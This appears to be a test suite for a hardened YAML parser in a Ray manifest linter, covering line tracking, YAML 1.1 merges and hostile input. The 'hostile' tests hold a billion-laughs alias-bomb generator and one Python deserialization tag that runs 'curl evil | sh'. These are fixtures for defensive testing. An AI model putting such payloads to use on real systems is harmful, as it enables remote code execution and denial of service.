import assert from 'node:assert/strict';
import { collectRayFacts } from '../../../src/ray/facts.ts';
import { RAY_LIMITS } from '../../../src/ray/limits.ts';
import { lineOf, parseYaml } from '../../../src/ray/yaml/safe-yaml.ts';
import { lintRay } from '../../../src/ray/index.ts';

function billionLaughs(levels: number): string {
  let text = 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
  for (let i = 1; i < levels; i++)
    text += `a${i}: &a${i} [${Array(9)
      .fill(`*a${i - 1}`)
      .join(',')}]\n`;
  return text;
}

describe('parseYaml', () => {
  describe('when the YAML is ordinary', () => {
    it('keeps line numbers of keys and sequence items across documents', () => {
      const result = parseYaml('a: 1\nb:\n  - x\n  - y\n---\nc:\n  d: 2\n', 'f.yaml');
      assert.deepEqual(result.problems, []);
      const [first, second] = result.documents.map((d) => d.value as Record<string, unknown>);
      assert.equal(lineOf(first, 'a'), 1);
      assert.equal(lineOf(first!.b, 1), 4);
      assert.equal(lineOf(second, 'c'), 6);
      assert.equal(lineOf(second!.c, 'd'), 7);
    });

    it('reads YAML 1.1 as kubectl and PyYAML do: yes/on are booleans, << merges', () => {
      const result = parseYaml('base: &b {p: 1, q: 2}\nd:\n  <<: *b\n  q: 3\nflag: yes\n', 'f.yaml');
      assert.deepEqual(JSON.parse(JSON.stringify(result.documents[0]!.value)), {
        base: { p: 1, q: 2 },
        d: { p: 1, q: 3 },
        flag: true,
      });
      assert.deepEqual(result.problems, []);
    });

    it('offsets lines for YAML embedded in another file', () => {
      const result = parseYaml('pip:\n  - requests\n', 'job.yaml', { lineOffset: 27 });
      assert.equal(lineOf(result.documents[0]!.value, 'pip'), 28);
    });
  });

  describe('when the YAML is hostile', () => {
    it('stops an alias bomb at the node budget instead of expanding it', () => {
      const started = Date.now();
      const result = parseYaml(billionLaughs(10), 'bomb.yaml');
      assert.deepEqual(result.documents, []);
      assert.deepEqual(
        result.problems.map((p) => p.code),
        ['RAY_YAML_TOO_LARGE'],
      );
      assert.ok(Date.now() - started < 2000);
    });

    it('shares small aliased subtrees without counting them as a bomb', () => {
      const result = parseYaml(billionLaughs(3), 'ok.yaml');
      assert.deepEqual(result.problems, []);
      const value = result.documents[0]!.value as Record<string, unknown[]>;
      assert.equal(value.a2!.length, 9);
    });

    it('refuses nesting deeper than the limit before building anything', () => {
      const started = Date.now();
      const result = parseYaml('x: ' + '['.repeat(1_000_000) + ']'.repeat(1_000_000), 'deep.yaml');
      assert.deepEqual(
        result.problems.map((p) => p.code),
        ['RAY_YAML_TOO_DEEP'],
      );
      assert.ok(Date.now() - started < 5000);
      const block =
        Array.from({ length: RAY_LIMITS.maxYamlDepth + 5 }, (_, i) => `${' '.repeat(i)}k:`).join('\n') +
        ' 1\n';
      assert.deepEqual(
        parseYaml(block, 'block.yaml').problems.map((p) => p.code),
        ['RAY_YAML_TOO_DEEP'],
      );
    });

    it('reports a Python object tag with its line and drops that document, keeping the others', () => {
      const text =
        'kind: ConfigMap\n---\nrun: !!python/object/apply:os.system ["curl evil | sh"]\n---\nok: true\n';
      const result = parseYaml(text, 'tags.yaml');
      assert.deepEqual(
        result.problems.map((p) => [p.code, p.line]),
        [['RAY_YAML_TAG', 3]],
      );
      assert.match(result.problems[0]!.message, /!!python\/object\/apply:os\.system/);
      assert.deepEqual(
        result.documents.map((d) => d.index),
        [0, 2],
      );
    });

    it('rejects application tags like !Ref too', () => {
      assert.deepEqual(
        parseYaml('a: !Ref b\n', 't.yaml').problems.map((p) => p.code),
        ['RAY_YAML_TAG'],
      );
    });

    it('reports duplicate keys, keeps the last value, and does not mistake merged keys for duplicates', () => {
      const result = parseYaml('a: 1\nb: 2\na: 3\nm:\n  <<: {x: 1}\n  x: 2\n', 'dup.yaml');
      assert.deepEqual(
        result.problems.map((p) => [p.code, p.line]),
        [['RAY_YAML_DUPLICATE_KEY', 3]],
      );
      const value = result.documents[0]!.value as Record<string, Record<string, number>>;
      assert.equal(value.a, 3);
      assert.equal(value.m!.x, 2);
    });

    it('checks a duplicated dashboard-host by its last value and says so', async () => {
      const manifest = [
        'apiVersion: ray.io/v1',
        'kind: RayCluster',
        'metadata: {name: dup}',
        'spec:',
        '  rayVersion: "2.56.0"',
        '  headGroupSpec:',
        '    rayStartParams:',
        '      dashboard-host: "127.0.0.1"',
        '      dashboard-host: "0.0.0.0"',
        '    template: {spec: {containers: [{name: ray-head, image: "rayproject/ray:2.56.0"}]}}',
      ].join('\n');
      const result = await lintRay(
        { files: [{ path: 'dup.yaml', content: manifest }] },
        { rules: ['RAY-NET-005'] },
      );
      assert.deepEqual(
        result.problems.map((p) => [p.code, p.line]),
        [['RAY_YAML_DUPLICATE_KEY', 9]],
      );
      assert.deepEqual(
        result.findings.map((f) => f.line),
        [9],
      );
    });

    it('rejects a 50 MB document before parsing it', () => {
      const line = 'k: "' + 'x'.repeat(1000) + '"\n';
      const content =
        'apiVersion: v1\nkind: ConfigMap\ndata:\n' + line.repeat(Math.ceil((50 * 1024 * 1024) / line.length));
      assert.ok(content.length >= 50 * 1024 * 1024);
      const started = Date.now();
      const facts = collectRayFacts([{ path: 'huge.yaml', content, explicit: true }]);
      assert.deepEqual(
        facts.problems.map((p) => p.code),
        ['RAY_INPUT_TOO_LARGE'],
      );
      assert.ok(Date.now() - started < 1000);
    });

    it('reports a syntax error with its line', () => {
      const result = parseYaml('a: [1, 2\nb: 3\n', 'bad.yaml');
      assert.equal(result.problems[0]!.code, 'RAY_YAML_SYNTAX');
      assert.equal(result.documents.length, 0);
    });
  });
});
